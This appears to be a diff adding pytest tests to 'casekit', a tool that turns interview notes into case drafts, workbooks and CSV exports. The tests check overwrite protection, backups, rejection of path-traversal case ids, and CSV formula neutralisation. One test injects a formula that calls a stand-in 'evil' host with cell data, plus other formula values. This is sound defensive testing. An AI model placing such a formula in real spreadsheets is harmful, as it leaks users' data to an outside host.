@@ -132,7 +132,7 @@ def test_toolbox_writes_each_regions_workbook_and_document(tmp_path: Path, capsy
 
     assert main(["toolbox", str(SAMPLE_BUNDLE), "--regions", "南宁", "--out", str(tmp_path)]) == 0
     folder = tmp_path / "sample" / "toolbox"
-    assert sorted(p.name for p in folder.iterdir()) == ["nanning.docx", "nanning.xlsx"]
+    assert sorted(p.name for p in folder.iterdir()) == [".casekit-written.json", "nanning.docx", "nanning.xlsx"]
     workbook = load_workbook(folder / "nanning.xlsx")
     cells = " ".join(str(c.value) for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value)
     assert "视频看店" in cells and "宽视界" not in cells  # Nanning's own product names
@@ -164,7 +164,7 @@ def test_case_draft_list_and_book(tmp_path: Path, capsys):
     assert printed.startswith("---\nid: C002\nkind: case\n") and "华夏宾馆" not in printed
     assert not (bundle / "cases").exists()  # printing a draft writes nothing
     assert main(["case", "draft", str(bundle), "N002", "--roleplay", "--save"]) == 0
-    assert sorted(p.name for p in (bundle / "cases").iterdir()) == ["C002.md", "R002.md"]
+    assert sorted(p.name for p in (bundle / "cases").iterdir()) == [".casekit-written.json", "C002.md", "R002.md"]
     assert main(["case", "list", str(bundle), "--industry", "酒店"]) == 0
     assert "某宾馆的苦恼" in capsys.readouterr().out
     book = tmp_path / "book.md"
@@ -181,3 +181,124 @@ def test_case_draft_of_an_unknown_note_names_the_notes(capsys):
     assert main(["case", "draft", str(SAMPLE_BUNDLE), "N999"]) == 1
     err = capsys.readouterr().err
     assert "N999" in err and "N001" in err and "Traceback" not in err
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_quotes_csv_neutralises_cells_a_spreadsheet_would_evaluate(mini_copy, tmp_path: Path):
+    note = (MINI / "notes" / "N001.md").read_text(encoding="utf-8")
+    bundle = mini_copy({"notes/N001.md": note.replace("客户经理B07谈到，", '=HYPERLINK("http://evil/"&A1,"x")，')
+                        .replace("interviewee: 客户经理B07", "interviewee: '@SUM(A1)'")})
+    out = tmp_path / "quotes.csv"
+    assert main(["quotes", str(bundle), "--csv", str(out)]) == 0
+    row = next(r for r in _csv_rows(out) if r["note_id"] == "N001")
+    assert row["quote"].startswith("'=HYPERLINK(\"http://evil/\"&A1") and row["text"].startswith("'=HYPERLINK")
+    assert row["interviewee"] == "'@SUM(A1)"
+    assert row["position"] == "1"  # numbers stay numbers
+
+
+def test_validate_csv_neutralises_found_values(mini_copy, tmp_path: Path):
+    rides = (MINI / "ride_alongs.csv").read_text(encoding="utf-8")
+    bundle = mini_copy({"ride_alongs.csv": rides.replace("2008-09-15", "=1+1").replace(",45,40,", ",-2+3,+1+1,")})
+    out = tmp_path / "problems.csv"
+    assert main(["validate", str(bundle), "--csv", str(out)]) == 1
+    found = {r["found"] for r in _csv_rows(out)}
+    assert {"'=1+1", "'-2+3", "'+1+1"} <= found, found
+    assert not any(f.startswith(("=", "+", "-", "@")) for f in found)
+    assert all(r["row"].isdigit() for r in _csv_rows(out) if r["row"])  # line numbers are not quoted
+
+
+@pytest.fixture
+def sample_copy(tmp_path: Path) -> Path:
+    import shutil
+
+    from casekit.paths import SAMPLE_BUNDLE
+
+    return Path(shutil.copytree(SAMPLE_BUNDLE, tmp_path / "bundle"))
+
+
+def test_case_draft_save_never_overwrites_an_edited_case(sample_copy: Path, capsys):
+    bundle = sample_copy
+    assert main(["case", "draft", str(bundle), "N002", "--save"]) == 0
+    case = bundle / "cases" / "C002.md"
+    assert main(["case", "draft", str(bundle), "N002", "--save"]) == 0  # unedited: saved again
+    edited = case.read_text(encoding="utf-8").replace("status: draft", "status: reviewed") + "\n顾问补充的内容\n"
+    case.write_text(edited, encoding="utf-8")
+    capsys.readouterr()
+    assert main(["case", "draft", str(bundle), "N002", "--save"]) == 1
+    err = capsys.readouterr().err
+    assert "C002.md was changed since casekit wrote it; not replaced (use --force" in err
+    assert err.count("\n") == 1 and "Traceback" not in err
+    assert case.read_text(encoding="utf-8") == edited
+    assert sorted(p.name for p in (bundle / "cases").iterdir()) == [".casekit-written.json", "C002.md"]
+
+    assert main(["case", "draft", str(bundle), "N002", "--save", "--force"]) == 0
+    backups = sorted((bundle / "cases").glob("_C002.bak-*.md"))
+    assert len(backups) == 1 and backups[0].read_text(encoding="utf-8") == edited
+    assert "kept as" in capsys.readouterr().err
+    assert "顾问补充的内容" not in case.read_text(encoding="utf-8")
+    case.write_text(edited + "第二次修改\n", encoding="utf-8")
+    assert main(["case", "draft", str(bundle), "N002", "--save", "--force"]) == 0  # same second: a new name
+    assert len(list((bundle / "cases").glob("_C002.bak-*.md"))) == 2  # the older backup is kept
+    assert main(["case", "list", str(bundle)]) == 0  # backups are not read as cases
+    assert "C002" in capsys.readouterr().out
+
+
+def test_case_draft_refuses_a_hand_written_file_it_did_not_write(sample_copy: Path, capsys):
+    (sample_copy / "cases").mkdir()
+    (sample_copy / "cases" / "C002.md").write_text("手写的案例\n", encoding="utf-8")
+    assert main(["case", "draft", str(sample_copy), "N002", "--save"]) == 1
+    assert (sample_copy / "cases" / "C002.md").read_text(encoding="utf-8") == "手写的案例\n"
+
+
+@pytest.mark.parametrize("case_id", ["C9\n", "../x", "a/b", "..", ".hidden", "C 9", ""])
+def test_case_draft_refuses_an_id_that_cannot_be_a_file_name(sample_copy: Path, case_id: str, capsys):
+    assert main(["case", "draft", str(sample_copy), "N002", "--id", case_id, "--save"]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("casekit case draft: --id: case id ") and "cannot be a file name: expected" in err
+    assert err.count("\n") == 1 and "Traceback" not in err
+    assert not (sample_copy / "cases").exists() and not (sample_copy.parent / "x.md").exists()
+
+
+@pytest.mark.parametrize("name", ["book.pdf", "book.pptx", "book.DOCX.txt", "book"])
+def test_case_book_refuses_a_format_it_cannot_write(sample_copy: Path, tmp_path: Path, name: str, capsys):
+    assert main(["case", "draft", str(sample_copy), "N002", "--save"]) == 0
+    out = tmp_path / name
+    assert main(["case", "book", str(sample_copy), "--out", str(out)]) == 2
+    assert "supported: .docx, .md" in capsys.readouterr().err
+    assert not out.exists()
+
+
+def test_case_book_and_outline_keep_an_edited_file(sample_copy: Path, tmp_path: Path, capsys):
+    assert main(["case", "draft", str(sample_copy), "N002", "--save"]) == 0
+    for argv in (["case", "book", str(sample_copy)], ["outline-interview", str(sample_copy), "--region", "天津"]):
+        out = tmp_path / f"{argv[0]}.md"
+        assert main([*argv, "--out", str(out)]) == 0
+        out.write_text("我的修改\n", encoding="utf-8")
+        assert main([*argv, "--out", str(out)]) == 1
+        assert out.read_text(encoding="utf-8") == "我的修改\n"
+        assert main([*argv, "--out", str(out), "--force"]) == 0
+        assert out.read_text(encoding="utf-8") != "我的修改\n"
+        assert [p.read_text(encoding="utf-8") for p in tmp_path.glob(f"_{argv[0]}.bak-*.md")] == ["我的修改\n"]
+
+
+def test_toolbox_keeps_a_workbook_filled_in_by_hand(tmp_path: Path, capsys):
+    from openpyxl import load_workbook
+
+    from casekit.paths import SAMPLE_BUNDLE
+
+    argv = ["toolbox", str(SAMPLE_BUNDLE), "--regions", "南宁", "--out", str(tmp_path)]
+    assert main(argv) == 0
+    workbook = tmp_path / "sample" / "toolbox" / "nanning.xlsx"
+    filled = load_workbook(workbook)
+    filled.worksheets[1]["B2"] = "客户经理手填的内容"
+    filled.save(workbook)
+    before = workbook.read_bytes()
+    assert main(argv) == 1
+    assert "nanning.xlsx was changed since casekit wrote it" in capsys.readouterr().err
+    assert workbook.read_bytes() == before
+    assert main([*argv, "--force"]) == 0
+    assert [p.read_bytes() for p in workbook.parent.glob("_nanning.bak-*.xlsx")] == [before]
